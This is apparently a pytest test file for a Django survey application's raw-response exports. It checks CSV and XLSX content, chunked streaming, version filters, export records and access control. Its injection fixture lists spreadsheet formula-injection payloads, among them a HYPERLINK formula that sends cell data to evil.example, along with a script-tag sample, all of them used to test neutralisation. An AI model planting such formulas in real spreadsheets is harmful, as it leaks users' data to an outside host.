"""Raw response exports: the CSV layout by code, what is left out, formula injection,
streaming in chunks, the version filter, the XLSX built by a worker (and refused when too
large), the export records, and access on every export URL."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from analytics.models import Reconciliation
from analytics.recompute import survey_reconcile
from responses.models import Answer, Response
from responses.moderation import response_exclude
from responses.services import response_submit
from results.exports import csv_stream, xlsx
from results.exports import rows as python_rows
from results.exports.csv_stream import raw_csv_stream
from results.exports.records import export_record
from results.exports.xlsx import raw_xlsx_export_build
from results.models import ExportRecord
from surveys.models import Choice, Page, Question, Survey
from surveys.services import version_duplicate, version_publish
from tests.kit.data import submit_and_count
from tests.kit.demo import CHANNELS, leader_answers
from tests.kit.waiting import wait_for

T0 = datetime(2024, 3, 2, 9, 0, tzinfo=UTC)
BOM = "\ufeff"

BASE_HEADER = [
    "response_id", "external_id", "version", "started_at", "completed_at", "duration_seconds", "quality_flags",
]
V1_QUESTIONS = (
    # The "Other" boxes' texts follow their questions.
    ["role", "seniority", "seniority.other.text", "industry", "industry.other.text", "revenue"]
    + [f"company_usage.{c}" for c in CHANNELS]
    + [f"personal_use.{c}" for c in CHANNELS]
    + [f"twitter_uses.{c}" for c in ("news", "peers", "thought_leadership", "company_news", "recruiting", "monitoring")]
    + [f"barriers.{c}" for c in ("time_waster", "roi", "security", "monitoring", "policy", "no_barriers")]
    + ["comments"]
)
INJECTIONS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("fine -1 = +1", "fine -1 = +1"),
]


# --- Helpers -------------------------------------------------------------------------


def _pin(response: Response, *, minute: int, seconds: int = 90) -> Response:
    """Deterministic times: completed at T0 + minute, after `seconds` of answering."""
    completed = T0 + timedelta(minutes=minute)
    Response.objects.filter(pk=response.pk).update(started_at=completed - timedelta(seconds=seconds),
                                                   completed_at=completed)
    response.refresh_from_db()
    return response


def _set_comment(response: Response, text: str) -> None:
    """Intake strips leading whitespace; a stored answer may still start with a tab or CR
    (an older import, another path in): the export must neutralise it whatever its origin."""
    Answer.objects.filter(response=response, question__code="comments").update(text=text)


def _body(response) -> str:
    assert response.status_code == 200, response
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def _csv_rows(client, survey: Survey, **params) -> list[list[str]]:
    body = _body(client.get(reverse("exports:raw_csv", args=[survey.slug]), params))
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[len(BOM):], newline="")))


def _row(response: Response, version: int, cells: dict[str, str], header: list[str]) -> list[str]:
    values = {
        "response_id": str(response.pk),
        "version": str(version),
        "started_at": response.started_at.isoformat(),
        "completed_at": response.completed_at.isoformat(),
        "duration_seconds": str(round((response.completed_at - response.started_at).total_seconds(), 3)),
        "quality_flags": " ".join(response.flags),
        **cells,
    }
    return [values.get(name, "") for name in header]


def _v1_cells(*, role: str, twitter: str, company_twitter: str, barriers: list[str], uses: list[str] | None,
              comments: str = "") -> dict[str, str]:
    cells = {"role": role, "seniority": "director", "industry": "technology", "revenue": "1b_10b"}
    cells |= {f"company_usage.{c}": "some" for c in CHANNELS} | {"company_usage.twitter": company_twitter}
    cells |= {f"personal_use.{c}": "monthly" for c in CHANNELS} | {"personal_use.twitter": twitter}
    if uses is not None:
        cells |= {f"twitter_uses.{c}": "1" if c in uses else "0" for c in
                  ("news", "peers", "thought_leadership", "company_news", "recruiting", "monitoring")}
    if barriers:
        cells |= {f"barriers.{c}": "1" if c in barriers else "0" for c in
                  ("time_waster", "roi", "security", "monitoring", "policy", "no_barriers")}
    if comments:
        cells["comments"] = comments
    return cells


@pytest.fixture
def small_set(demo_survey) -> list[Response]:
    """Three counted responses, in completion order: an IT leader who never uses Twitter
    (so `twitter_uses` was hidden), a business leader who skipped `barriers`, and one with
    a comment."""
    it_never = submit_and_count(
        demo_survey, leader_answers(role="it", twitter="never", company_twitter="none", barriers=["roi", "security"])
    )
    business = submit_and_count(demo_survey, leader_answers(role="business", twitter="daily", barriers=[]))
    commented = submit_and_count(demo_survey, leader_answers(role="it") | {"comments": "Très utile, merci"})
    return [_pin(it_never, minute=1, seconds=125), _pin(business, minute=2), _pin(commented, minute=3, seconds=61)]


# --- CSV content ---------------------------------------------------------------------


@pytest.mark.django_db
def test_it_exports_one_row_per_response_by_code(results, demo_survey, small_set):
    rows = _csv_rows(results, demo_survey)

    header = BASE_HEADER + V1_QUESTIONS
    assert rows[0] == header
    it_never, business, commented = small_set
    assert rows[1:] == [
        _row(it_never, 1, _v1_cells(role="it", twitter="never", company_twitter="none",
                                    barriers=["roi", "security"], uses=None), header),
        _row(business, 1, _v1_cells(role="business", twitter="daily", company_twitter="some",
                                    barriers=[], uses=["news"]), header),
        _row(commented, 1, _v1_cells(role="it", twitter="weekly", company_twitter="some", barriers=["roi"],
                                     uses=["news"], comments="Très utile, merci"), header),
    ]
    first = dict(zip(header, rows[1], strict=True))
    assert first["duration_seconds"] == "125.0"
    assert first["started_at"] == "2024-03-02T08:58:55+00:00"
    # Hidden by its condition: empty, not 0.
    assert [first[f"twitter_uses.{c}"] for c in ("news", "peers")] == ["", ""]
    assert [first[f"barriers.{c}"] for c in ("time_waster", "roi", "security")] == ["0", "1", "1"]


@pytest.mark.django_db
def test_it_leaves_out_test_excluded_and_partial_responses(results, demo_survey, small_set):
    version = demo_survey.open_version()
    test = response_submit(survey=demo_survey, version=version, submission_id=uuid.uuid4(),
                           answers=leader_answers(role="it"), is_test=True).response
    partial = Response.objects.create(survey=demo_survey, version=version, submission_id=uuid.uuid4())
    response_exclude(response=small_set[1], reason="straight-lined")

    ids = [row[0] for row in _csv_rows(results, demo_survey)[1:]]

    assert ids == [str(small_set[0].pk), str(small_set[2].pk)]
    assert str(partial.pk) not in ids and str(test.pk) not in ids
    assert Response.objects.filter(survey=demo_survey).count() == 5


@pytest.mark.django_db
def test_it_neutralises_formula_injection_in_the_csv(results, demo_survey):
    for minute, (text, _) in enumerate(INJECTIONS):
        response = submit_and_count(demo_survey, leader_answers(role="it") | {"comments": "placeholder"})
        _set_comment(_pin(response, minute=minute), text)

    rows = _csv_rows(results, demo_survey)

    comments = [row[rows[0].index("comments")] for row in rows[1:]]
    assert comments == [neutralised for _, neutralised in INJECTIONS]


@pytest.mark.django_db
def test_it_exports_markup_verbatim_as_a_download(results, demo_survey):
    # A CSV is data, not a page: markup is neither escaped (which would corrupt answers)
    # nor ever rendered, because the file is sent as an attachment of type text/csv.
    response = submit_and_count(demo_survey, leader_answers(role="it") | {"comments": "<script>alert(1)</script>"})
    _pin(response, minute=1)

    http = results.get(reverse("exports:raw_csv", args=[demo_survey.slug]))

    assert http["Content-Type"] == "text/csv; charset=utf-8"
    assert http["Content-Disposition"].startswith('attachment; filename="ddiq-2010-responses-')
    assert http["Cache-Control"] == "private, no-store"
    assert "<script>alert(1)</script>" in _body(http)


# --- Streaming -----------------------------------------------------------------------


@pytest.mark.django_db
def test_it_streams_in_chunks_across_chunk_boundaries(results, demo_survey, monkeypatch):
    # The Python path (SQLite's, and the reference for PostgreSQL's COPY path).
    monkeypatch.setattr(csv_stream, "USE_COPY", False)
    monkeypatch.setattr(python_rows, "RAW_CHUNK", 3)
    responses = [submit_and_count(demo_survey, leader_answers(role="it")) for _ in range(7)]
    # Five share one completion time, across the first chunk boundary: the keyset must
    # break ties by id, neither skipping nor repeating a response.
    for i, response in enumerate(responses):
        _pin(response, minute=max(0, i - 4))
    expected = [str(r.pk) for r in sorted(responses, key=lambda r: (r.completed_at, str(r.pk)))]

    http = results.get(reverse("exports:raw_csv", args=[demo_survey.slug]))
    chunks = list(http.streaming_content)

    assert isinstance(http, StreamingHttpResponse)
    assert len(chunks) == 1 + 3  # the header, then chunks of 3, 3 and 1 responses
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8")[len(BOM):], newline="")))
    assert [row[0] for row in rows[1:]] == expected


@pytest.mark.django_db
def test_it_reads_each_chunk_with_two_queries(results, demo_survey, monkeypatch,
                                              django_assert_num_queries):
    monkeypatch.setattr(csv_stream, "USE_COPY", False)
    monkeypatch.setattr(python_rows, "RAW_CHUNK", 3)
    for minute in range(7):
        _pin(submit_and_count(demo_survey, leader_answers(role="it")), minute=minute)
    http = results.get(reverse("exports:raw_csv", args=[demo_survey.slug]))
    assert http.status_code == 200
    stream = iter(http.streaming_content)
    next(stream)  # the header (the layout's queries)

    # Three chunks of (responses, answers), then the record is completed.
    with django_assert_num_queries(3 * 2 + 1):
        rest = list(stream)
    assert len(rest) == 3


@pytest.mark.django_db
def test_it_records_an_interrupted_download_as_failed(demo_survey, small_set):
    record = export_record(user=None, survey=demo_survey, kind=ExportRecord.Kind.RAW_CSV,
                           status=ExportRecord.Status.PENDING)
    stream = raw_csv_stream(record)
    next(stream)
    stream.close()  # what the server does when the client goes away

    record.refresh_from_db()
    assert (record.status, record.error) == (ExportRecord.Status.FAILED, "The download was interrupted.")


# --- Versions ------------------------------------------------------------------------


def _second_version(survey: Survey):
    """Version 2: adds `team_size` (integer), `started_on` (date) and an e-mail question
    after `revenue`, a `budget` barrier, and drops `comments`."""
    draft = version_duplicate(version=survey.open_version())
    about = Page.objects.get(version=draft, position=0)
    for position, (code, kind) in enumerate(
        (("team_size", "integer"), ("started_on", "date"), ("contact", "email")), start=10
    ):
        Question.objects.create(version=draft, page=about, position=position, code=code, type=kind, label=code)
    barriers = Question.objects.get(version=draft, code="barriers")
    Choice.objects.create(question=barriers, position=10, code="budget", label="No budget")
    Question.objects.get(version=draft, code="comments").delete()
    return version_publish(version=draft)


V2_ANSWERS = {"team_size": 250, "started_on": "2024-05-01", "contact": "someone@example.com"}


@pytest.fixture
def two_versions(demo_survey):
    v1_response = _pin(
        submit_and_count(demo_survey, leader_answers(role="it", barriers=["roi"]) | {"comments": "from v1"}), minute=1
    )
    _second_version(demo_survey)
    data = leader_answers(role="business", barriers=["budget"]) | V2_ANSWERS
    v2_response = _pin(submit_and_count(demo_survey, data), minute=2)
    return v1_response, v2_response


@pytest.mark.django_db
def test_it_gives_every_version_s_questions_a_column(results, demo_survey, two_versions):
    v1_response, v2_response = two_versions

    rows = _csv_rows(results, demo_survey)

    header = rows[0]
    # The newest version's order, then what only older versions have; no e-mail column.
    questions = header[len(BASE_HEADER):]
    assert questions[:9] == ["role", "seniority", "seniority.other.text", "industry", "industry.other.text",
                             "revenue", "team_size", "started_on", "company_usage.twitter"]
    assert [h for h in header if h.startswith("barriers.")][-1] == "barriers.budget"
    assert header[-1] == "comments"
    assert "contact" not in header
    v1, v2 = (dict(zip(header, row, strict=True)) for row in rows[1:])
    assert (v1["version"], v1["team_size"], v1["barriers.budget"], v1["barriers.roi"], v1["comments"]) == (
        "1", "", "", "1", "from v1"
    )
    assert (v2["version"], v2["team_size"], v2["started_on"], v2["barriers.budget"], v2["barriers.roi"]) == (
        "2", "250", "2024-05-01", "1", "0"
    )
    assert v2["comments"] == ""
    assert "someone@example.com" not in "".join(",".join(row) for row in rows)


@pytest.mark.django_db
def test_it_filters_by_version(results, demo_survey, two_versions):
    v1_response, _ = two_versions

    rows = _csv_rows(results, demo_survey, version=1)

    assert rows[0] == BASE_HEADER + V1_QUESTIONS
    assert [row[0] for row in rows[1:]] == [str(v1_response.pk)]
    record = ExportRecord.objects.get(kind=ExportRecord.Kind.RAW_CSV)
    assert record.parameters == {"version": 1}


@pytest.mark.django_db
@pytest.mark.parametrize("version", ["9", "x"])
def test_it_answers_404_for_an_unknown_version(results, demo_survey, version):
    response = results.get(reverse("exports:raw_csv", args=[demo_survey.slug]), {"version": version})
    assert response.status_code == 404


# --- XLSX ----------------------------------------------------------------------------


def _sheet_rows(path_or_bytes) -> list[tuple]:
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    # Not read-only: that mode drops the empty cells at the end of a row.
    workbook = load_workbook(source)
    return [tuple(row) for row in workbook["responses"].iter_rows(values_only=True)]


@pytest.mark.django_db
def test_it_queues_an_xlsx_export_on_commit_and_serves_it_when_ready(
    results, viewer, demo_survey, small_set, django_capture_on_commit_callbacks, export_files
):
    url = reverse("exports:raw_xlsx", args=[demo_survey.slug])
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = results.post(url)

    record = ExportRecord.objects.get(kind=ExportRecord.Kind.RAW_XLSX)
    status_url = reverse("exports:status", args=[demo_survey.slug, record.pk])
    assert response.status_code == 302 and response["Location"] == status_url
    assert len(callbacks) == 1
    assert (record.status, record.user, record.parameters) == (ExportRecord.Status.PENDING, viewer, {})
    pending = results.get(status_url)
    assert b'<meta http-equiv="refresh" content="3">' in pending.content
    assert results.get(reverse("exports:download", args=[demo_survey.slug, record.pk])).status_code == 404

    raw_xlsx_export_build(export_id=record.pk)

    record.refresh_from_db()
    assert (record.status, record.rows) == (ExportRecord.Status.READY, 3)
    ready = results.get(status_url)
    download_url = reverse("exports:download", args=[demo_survey.slug, record.pk])
    assert download_url.encode() in ready.content and b"http-equiv" not in ready.content
    download = results.get(download_url)
    assert download.status_code == 200
    assert download["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = _sheet_rows(b"".join(download.streaming_content))
    header = BASE_HEADER + V1_QUESTIONS
    assert list(rows[0]) == header
    first = dict(zip(header, rows[1], strict=True))
    assert first["response_id"] == str(small_set[0].pk)
    assert first["version"] == 1
    assert first["completed_at"] == datetime(2024, 3, 2, 9, 1)  # UTC, without a zone
    assert first["duration_seconds"] == 125
    assert (first["company_usage.twitter"], first["twitter_uses.news"], first["barriers.roi"]) == ("none", None, 1)
    assert first["barriers.time_waster"] == 0


@pytest.mark.django_db
def test_it_is_idempotent(results, demo_survey, small_set, export_files):
    record = export_record(user=None, survey=demo_survey, kind=ExportRecord.Kind.RAW_XLSX,
                           status=ExportRecord.Status.PENDING)
    assert raw_xlsx_export_build(export_id=record.pk).status == ExportRecord.Status.READY
    finished_at = ExportRecord.objects.get(pk=record.pk).finished_at

    assert raw_xlsx_export_build(export_id=record.pk) is None
    assert ExportRecord.objects.get(pk=record.pk).finished_at == finished_at


@pytest.mark.django_db
def test_it_neutralises_formula_injection_in_the_xlsx(demo_survey, export_files):
    for minute, (text, _) in enumerate(INJECTIONS):
        response = submit_and_count(demo_survey, leader_answers(role="it") | {"comments": "placeholder"})
        _set_comment(_pin(response, minute=minute), text)
    record = export_record(user=None, survey=demo_survey, kind=ExportRecord.Kind.RAW_XLSX,
                           status=ExportRecord.Status.PENDING)

    record = raw_xlsx_export_build(export_id=record.pk)

    rows = _sheet_rows(xlsx.xlsx_path(record))
    column = rows[0].index("comments")
    # XML reads a carriage return in text back as a line feed; what matters is the apostrophe.
    assert [row[column] for row in rows[1:]] == [neutralised.replace("\r", "\n") for _, neutralised in INJECTIONS]


@pytest.mark.django_db
def test_it_refuses_more_rows_than_a_sheet_holds(results, viewer, demo_survey, small_set, monkeypatch,
                                                export_files):
    monkeypatch.setattr(xlsx, "XLSX_MAX_DATA_ROWS", 2)
    record = export_record(user=viewer, survey=demo_survey, kind=ExportRecord.Kind.RAW_XLSX,
                           status=ExportRecord.Status.PENDING)

    raw_xlsx_export_build(export_id=record.pk)

    record.refresh_from_db()
    assert record.status == ExportRecord.Status.FAILED
    assert record.error == (
        "This export has 3 responses, more than a spreadsheet sheet holds (2 rows besides the header). "
        "Download the CSV export instead, or export one version at a time."
    )
    assert record.file_path == ""
    page = results.get(reverse("exports:status", args=[demo_survey.slug, record.pk]))
    assert "more than a spreadsheet sheet holds" in page.content.decode()
    assert not list((Path(settings.MEDIA_ROOT) / "exports").glob(f"*-{record.pk}.xlsx*"))


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_it_builds_the_xlsx_with_the_real_worker(client, viewer, demo_survey, celery_worker_process, export_files):
    demo_survey.viewers.add(viewer)
    client.force_login(viewer)
    for minute, (text, _) in enumerate(INJECTIONS[:2]):
        response = submit_and_count(demo_survey, leader_answers(role="it") | {"comments": "placeholder"})
        _set_comment(_pin(response, minute=minute), text)

    status_url = client.post(reverse("exports:raw_xlsx", args=[demo_survey.slug]), {"version": "1"})["Location"]
    record = wait_for(
        lambda: ExportRecord.objects.exclude(status=ExportRecord.Status.PENDING).first(), timeout=30, interval=0.2
    )

    assert (record.status, record.rows, record.parameters, record.error) == (
        ExportRecord.Status.READY, 2, {"version": 1}, ""
    )
    assert b"Download the Excel file" in client.get(status_url).content
    download = client.get(reverse("exports:download", args=[demo_survey.slug, record.pk]))
    rows = _sheet_rows(b"".join(download.streaming_content))
    header = rows[0]
    assert list(header) == BASE_HEADER + V1_QUESTIONS
    assert [row[header.index("comments")] for row in rows[1:]] == [n for _, n in INJECTIONS[:2]]
    assert [row[header.index("role")] for row in rows[1:]] == ["it", "it"]
    assert [row[header.index("barriers.roi")] for row in rows[1:]] == [1, 1]


# --- Records and the admin -----------------------------------------------------------


@pytest.mark.django_db
def test_it_records_every_export(results, viewer, demo_survey, small_set):
    _csv_rows(results, demo_survey)
    _csv_rows(results, demo_survey, version=1)
    table = export_record(user=viewer, survey=demo_survey, kind=ExportRecord.Kind.TABLE_CSV,
                          parameters={"question": "role"})

    records = list(ExportRecord.objects.order_by("pk").values_list("user__username", "kind", "parameters", "status",
                                                                     "rows"))
    assert records == [
        ("bob", "raw_csv", {}, "ready", 3),
        ("bob", "raw_csv", {"version": 1}, "ready", 3),
        ("bob", "table_csv", {"question": "role"}, "ready", None),
    ]
    assert table.finished_at is not None


@pytest.mark.django_db
def test_it_lists_exports_and_reconciliations_in_the_admin(admin_client, viewer, demo_survey, small_set):
    record = export_record(user=viewer, survey=demo_survey, kind=ExportRecord.Kind.RAW_CSV, rows=3)
    survey_reconcile(survey_id=demo_survey.pk)
    run = Reconciliation.objects.get()

    changelist = admin_client.get(reverse("admin:results_exportrecord_changelist"))
    change = admin_client.get(reverse("admin:results_exportrecord_change", args=[record.pk]))
    reconciliations = admin_client.get(reverse("admin:analytics_reconciliation_changelist"))
    reconciliation = admin_client.get(reverse("admin:analytics_reconciliation_change", args=[run.pk]))

    assert changelist.status_code == 200 and b"Raw responses (CSV)" in changelist.content
    assert change.status_code == 200 and b'name="_save"' not in change.content
    assert reconciliations.status_code == 200 and reconciliation.status_code == 200
    assert admin_client.get(reverse("admin:results_exportrecord_add")).status_code == 403


# --- Access --------------------------------------------------------------------------


def _export_urls(survey: Survey, record: ExportRecord) -> list[tuple[str, str]]:
    slug = survey.slug
    return [
        ("get", reverse("exports:index", args=[slug])),
        ("get", reverse("exports:raw_csv", args=[slug])),
        ("post", reverse("exports:raw_xlsx", args=[slug])),
        ("get", reverse("exports:status", args=[slug, record.pk])),
        ("get", reverse("exports:download", args=[slug, record.pk])),
    ]


@pytest.fixture
def ready_export(demo_survey, viewer, small_set, export_files) -> ExportRecord:
    record = export_record(user=viewer, survey=demo_survey, kind=ExportRecord.Kind.RAW_XLSX,
                           status=ExportRecord.Status.PENDING)
    return raw_xlsx_export_build(export_id=record.pk)


@pytest.mark.django_db
def test_it_sends_anonymous_users_to_the_login_page(client, demo_survey, ready_export):
    for method, url in _export_urls(demo_survey, ready_export):
        response = getattr(client, method)(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("login") + "?next="), url


@pytest.mark.django_db
def test_it_refuses_users_without_the_results_permission(client, outsider, demo_survey, ready_export):
    demo_survey.viewers.add(outsider)
    client.force_login(outsider)
    for method, url in _export_urls(demo_survey, ready_export):
        assert getattr(client, method)(url).status_code == 403, url


@pytest.mark.django_db
def test_it_hides_surveys_not_shared_with_the_user(client, viewer, demo_survey, ready_export):
    client.force_login(viewer)
    for method, url in _export_urls(demo_survey, ready_export):
        assert getattr(client, method)(url).status_code == 404, url
    assert not ExportRecord.objects.exclude(pk=ready_export.pk).exists()


@pytest.mark.django_db
def test_it_serves_an_export_only_under_its_own_survey(results, viewer, demo_survey, ready_export):
    other = Survey.objects.create(slug="other", title="Other")
    other.viewers.add(viewer)

    for name in ("status", "download"):
        assert results.get(reverse(f"exports:{name}", args=[other.slug, ready_export.pk])).status_code == 404
    assert results.get(reverse("exports:download", args=[demo_survey.slug, ready_export.pk])).status_code == 200


@pytest.mark.django_db
def test_it_shows_the_exports_page(results, demo_survey, two_versions):
    page = results.get(reverse("exports:index", args=[demo_survey.slug]))

    assert page.status_code == 200
    content = page.content.decode()
    assert reverse("exports:raw_csv", args=[demo_survey.slug]) in content
    assert '<option value="2">Version 2</option>' in content
